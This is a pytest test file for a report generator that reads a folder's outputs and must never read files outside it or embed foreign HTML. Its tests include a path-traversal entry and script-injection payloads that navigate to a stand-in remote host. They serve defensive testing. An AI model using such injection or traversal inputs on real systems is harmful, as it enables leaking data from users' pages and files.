"""``emg-lens report DIR`` on a folder someone sent (issue 37 items 2 and 6): only regular
files inside DIR are read, and every file the page cannot show is listed as left out, with
why, never a traceback; big tables are streamed; a killed writer's temporary file is cleaned;
a full or read-only disk is named with advice that fits the command."""

from __future__ import annotations

import html
import json
import os
import re
import subprocess
import sys

import pytest

import emg_lens.report.folder as folder_module
from emg_lens.cli import main
from emg_lens.errors import ArgumentError, DataFormatError
from emg_lens.report import report_html
from emg_lens.report.page import MAX_ROWS
from emg_lens.report.view import view_html, view_record
from tests.unit.storage_faults import full_disk, read_only

PNG = bytes.fromhex(  # a 1x1 PNG
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360000002000154a24f5d0000000049454e44ae426082"
)


def _left_out(page: str) -> str:
    return page.split('id="left-out"')[1].split("</section>")[0]


@pytest.fixture
def outside(tmp_path):
    """Files outside the reported folder, each holding a marker that must not reach a page."""
    root = tmp_path / "outside"
    root.mkdir()
    (root / "secret.csv").write_text("a\nSECRET-ABSOLUTE\n")
    (root / "x.csv").write_text("a\nSECRET-DOTDOT\n")
    (root / "linked.csv").write_text("a\nSECRET-LINKED\n")
    (root / "summary.md").write_text("# SECRET-SUMMARY\n")
    (root / "view.html").write_text("<p>SECRET-VIEW</p>")
    (root / "study.json").write_text(json.dumps({"fingerprint": '{"name": "SECRET-STUDY"}'}))
    (root / "figure.png").write_bytes(PNG + b"SECRET-PNG")
    return root


def test_files_named_or_linked_outside_the_folder_are_left_out_with_why(tmp_path, outside, capsys):
    folder = tmp_path / "sent" / "run"
    folder.mkdir(parents=True)
    (folder / "ok.csv").write_text("a,b\n1,2\n")
    (folder / "link.csv").symlink_to(outside / "linked.csv")
    (folder / "summary.md").symlink_to(outside / "summary.md")
    (folder / "attention_view.html").symlink_to(outside / "view.html")
    (folder / "fig.png").symlink_to(outside / "figure.png")
    (folder / "inside.csv").symlink_to(folder / "ok.csv")  # a link that stays inside: read
    tables = [str(outside / "secret.csv"), "../../outside/x.csv", "link.csv", "inside.csv"]
    manifest = {"kind": "study", "title": "sent", "tables": tables, "figures": ["fig"]}
    (folder / "outputs.json").write_text(json.dumps(manifest))

    assert main(["report", str(folder)]) == 0
    err = capsys.readouterr().err
    page = (folder / "report.html").read_text()
    assert "SECRET" not in page
    left = _left_out(page)
    for name, why in [
        (str(outside / "secret.csv"), "an absolute path"),
        ("../../outside/x.csv", "a path that leads out of the folder (..)"),
        ("link.csv", "a link to a file outside the folder"),
        ("summary.md", "a link to a file outside the folder"),
        ("attention_view.html", "a link to a file outside the folder"),
        ("fig.png", "a link to a file outside the folder"),
    ]:
        assert f"<code>{name}</code>: {why}" in left, name
        assert f"{name}: {why}" in err, name
    assert "<summary>inside.csv (1 rows)</summary>" in page  # a link inside the folder is read

    # without outputs.json: the folder's own files, found by name, and its study.json
    (folder / "outputs.json").unlink()
    (folder / "study.json").symlink_to(outside / "study.json")
    page = report_html(folder)
    assert "SECRET" not in page and "<code>study.json</code>: a link" in _left_out(page)
    assert "<code>link.csv</code>: a link" in _left_out(page) and "<summary>ok.csv" in page


def test_text_that_is_not_utf8_is_left_out_by_name_and_the_rest_is_shown(tmp_path, capsys):
    (tmp_path / "summary.md").write_bytes(b"# t\n\nDelta \xff\xfe\n")
    (tmp_path / "latin1.csv").write_bytes(b"name,v\ncaf\xe9,1\n")
    (tmp_path / "ok.csv").write_text("a\n1\n")
    assert main(["report", str(tmp_path)]) == 0
    page = (tmp_path / "report.html").read_text()
    left = _left_out(page)
    assert "<code>summary.md</code>: not UTF-8 text (byte 0xff cannot be decoded)" in left
    assert "<code>latin1.csv</code>: not UTF-8 text (byte 0xe9" in left
    assert "<summary>ok.csv (1 rows)</summary>" in page
    assert "Traceback" not in capsys.readouterr().err


@pytest.mark.parametrize(
    ("manifest", "why"),
    [
        ("{not json", "not JSON (Expecting property name"),
        ("[1, 2]", "a JSON list where a table of kind, title, spec, tables and figures"),
        ('{"figures": 5}', "'figures' must be a list of file names, got 5"),
        ('{"tables": [3]}', "'tables' must be a list of file names, got [3]"),
        ('{"spec": "x"}', "'spec' must be a table or null, got 'x'"),
        ('{"title": {"a": 1}}', "'title' must be a string"),
    ],
)
def test_an_outputs_json_that_is_no_manifest_is_left_out_and_the_folder_read_as_it_is(
    tmp_path, manifest, why
):
    (tmp_path / "outputs.json").write_text(manifest)
    (tmp_path / "t.csv").write_text("a\n1\n")
    assert main(["report", str(tmp_path)]) == 0
    page = (tmp_path / "report.html").read_text()
    assert f"<code>outputs.json</code>: {why}" in _left_out(page)
    assert "the folder is read as it is" in _left_out(page)
    assert "<summary>t.csv (1 rows)</summary>" in page


@pytest.mark.parametrize(
    "marker",
    [b"{broken", b"[]", b'{"fingerprint": 3}', b'{"fingerprint": "[1]"}', b"\xff"],
)
def test_a_bad_study_json_is_left_out_and_the_folder_still_reported(tmp_path, marker):
    (tmp_path / "study.json").write_bytes(marker)
    (tmp_path / "summary.md").write_text("# run\n\nok\n")
    assert main(["report", str(tmp_path)]) == 0
    page = (tmp_path / "report.html").read_text()
    assert "<code>study.json</code>: " in _left_out(page) and "<p>ok</p>" in page


def test_a_csv_field_over_csvs_128_kb_limit_is_shown_shortened(tmp_path):
    long = "x" * 200_000
    (tmp_path / "wide.csv").write_text(f"name,text\none,{long}\ntwo,short\n")
    assert main(["report", str(tmp_path)]) == 0
    page = (tmp_path / "report.html").read_text()
    assert "<summary>wide.csv (2 rows)</summary>" in page and 'id="left-out"' not in page
    assert "x" * 300 + "… (200000 characters)" in page and "x" * 301 not in page


def test_a_big_csv_is_streamed_its_rows_counted_not_parsed(tmp_path, monkeypatch):
    rows = 5 * MAX_ROWS
    lines = ["i,note"] + [f'{i},"row {i}"' for i in range(rows - 2)]
    lines += ['-1,"two\nlines, ""quoted"""', "-2,last"]  # counted as one row each
    (tmp_path / "big.csv").write_text("\n".join(lines))  # no newline after the last row
    parsed = []
    real_reader = folder_module.csv.reader

    def counting_reader(fh):
        for row in real_reader(fh):
            parsed.append(row)
            yield row

    monkeypatch.setattr(folder_module.csv, "reader", counting_reader)
    monkeypatch.setattr(folder_module, "_CHUNK", 4096)  # many chunks: quotes across them
    page = report_html(tmp_path)
    assert len(parsed) == MAX_ROWS + 1  # the header and the rows shown: the rest only counted
    assert f"<summary>big.csv ({rows} rows)</summary>" in page
    assert f"The first {MAX_ROWS} of {rows} rows; big.csv has them all." in page


def test_a_killed_reports_temporary_file_is_removed_by_the_next_report(tmp_path):
    dead = subprocess.run(
        [sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True
    ).stdout.strip()
    (tmp_path / "summary.md").write_text("# t\n")
    killed = tmp_path / f"report.html.{dead}.tmp"
    alive = tmp_path / f"report.html.{os.getppid()}.tmp"  # a writer still running: kept
    other = tmp_path / f"summary.md.{dead}.tmp"  # another file's: not the report's to clean
    for path in (killed, alive, other):
        path.write_text("<!doctype html><p>partial")
    assert main(["report", str(tmp_path)]) == 0
    assert not killed.exists() and alive.exists() and other.exists()
    assert (tmp_path / "report.html").is_file()


def test_a_full_or_read_only_disk_is_named_with_advice_report_can_follow(
    tmp_path, monkeypatch, capsys
):
    (tmp_path / "summary.md").write_text("# t\n\nok\n")
    with read_only(tmp_path, monkeypatch):
        assert main(["report", str(tmp_path)]) == 2
    err = capsys.readouterr().err
    assert f"cannot write {tmp_path / 'report.html'}" in err and "--out" not in err
    assert "copy the folder to " in err and "run emg-lens report on the copy" in err
    monkeypatch.undo()
    with full_disk(tmp_path, monkeypatch, budget=100):
        assert main(["report", str(tmp_path)]) == 2
    err = capsys.readouterr().err
    assert "no space is left" in err and "--out" not in err
    assert "free space there, or copy the folder to a folder on another disk and run" in err
    assert not list(tmp_path.glob("report.html*"))


def test_a_folders_html_view_is_never_embedded_and_its_numbers_are_drawn_in_a_sandbox(tmp_path):
    """Issue 47, section 3 item 9: a folder's attention_view.html could navigate its
    sandboxed frame to a remote address; the view is rebuilt from attention_view.json."""
    foreign = "<script>location = 'http://198.51.100.7/leak';</script>"
    (tmp_path / "attention_view.html").write_text(foreign)
    attack = "</script><script>parent.location='http://198.51.100.7/'</script>"
    record = view_record([attack, "C3 & <b>"], ["L0H0"], [[[1.0, 0.0], [0.25, 0.75]]])
    (tmp_path / "attention_view.json").write_text(json.dumps(record))
    page = report_html(tmp_path)
    assert "198.51.100.7/leak" not in html.unescape(page)  # the folder's page: not embedded
    frames = re.findall(r'<iframe class="view" [^>]*sandbox="([^"]*)" srcdoc="([^"]*)">', page)
    assert len(frames) == 1 and frames[0][0] == "allow-scripts"  # no allow-same-origin
    document = html.unescape(frames[0][1])
    assert "location = 'http" not in document and "</script><script>parent" not in document
    assert "\\u003c/script\\u003e\\u003cscript\\u003eparent.location" in document  # data
    assert "C3 \\u0026 \\u003cb\\u003e" in document
    assert "same-origin" not in page and page.count("<script>") == 1  # the page's own only
    assert "Content-Security-Policy" in document  # fetches nothing
    assert "attention_view.html" in page and "never embedded" in page  # listed as left out


@pytest.mark.parametrize(
    "record, why",
    [
        ({"tokens": ["a"], "heads": ["h"]}, "exactly tokens, heads and attention"),
        ({"tokens": ["a"], "heads": ["h"], "attention": [[[2.0]]]}, "finite numbers in"),
        ({"tokens": ["a", "b"], "heads": ["h"], "attention": [[[1.0]]]}, "[2 x 2] pattern"),
        ({"tokens": ["a" * 300], "heads": ["h"], "attention": [[[1.0]]]}, "at most 200"),
    ],
)
def test_a_view_record_emg_lens_did_not_write_is_left_out_with_why(tmp_path, record, why):
    (tmp_path / "attention_view.json").write_text(json.dumps(record))
    page = report_html(tmp_path)
    assert '<iframe class="view"' not in page and html.escape(why, quote=False) in page


def test_names_that_are_no_regular_file_are_left_out_without_a_traceback(tmp_path, capsys):
    (tmp_path / "loop1").symlink_to(tmp_path / "loop2")
    (tmp_path / "loop2").symlink_to(tmp_path / "loop1")
    os.mkfifo(tmp_path / "pipe.csv")  # reading it would block forever
    (tmp_path / "sub").mkdir()
    tables = ["a\x00.csv", "x" * 5000 + ".csv", "loop1", "pipe.csv", "sub", " "]
    (tmp_path / "outputs.json").write_text(json.dumps({"tables": tables, "figures": []}))
    assert main(["report", str(tmp_path)]) == 0
    left = _left_out((tmp_path / "report.html").read_text())
    assert "<code>'a\\x00.csv'</code>: not a file name" in left and "<code> </code>: not a" in left
    assert "<code>loop1</code>: cannot be read (Symlink loop" in left
    for name in ("pipe.csv", "sub"):
        assert f"<code>{name}</code>: not a regular file" in left
    assert "File name too long" in left and "Traceback" not in capsys.readouterr().err


def test_a_record_or_file_the_view_and_table_cannot_use_is_named(tmp_path):
    with pytest.raises(ArgumentError, match=r"attention view: .*finite numbers in"):
        view_record(["a"], ["h"], [[[2.0]]])
    with pytest.raises(ArgumentError, match=r"attention view: .*exactly tokens, heads and"):
        view_html({"tokens": ["a"], "heads": ["h"]})
    with pytest.raises(DataFormatError, match=r"cannot be read \(Is a directory\)"):
        folder_module.csv_head(tmp_path, 5)
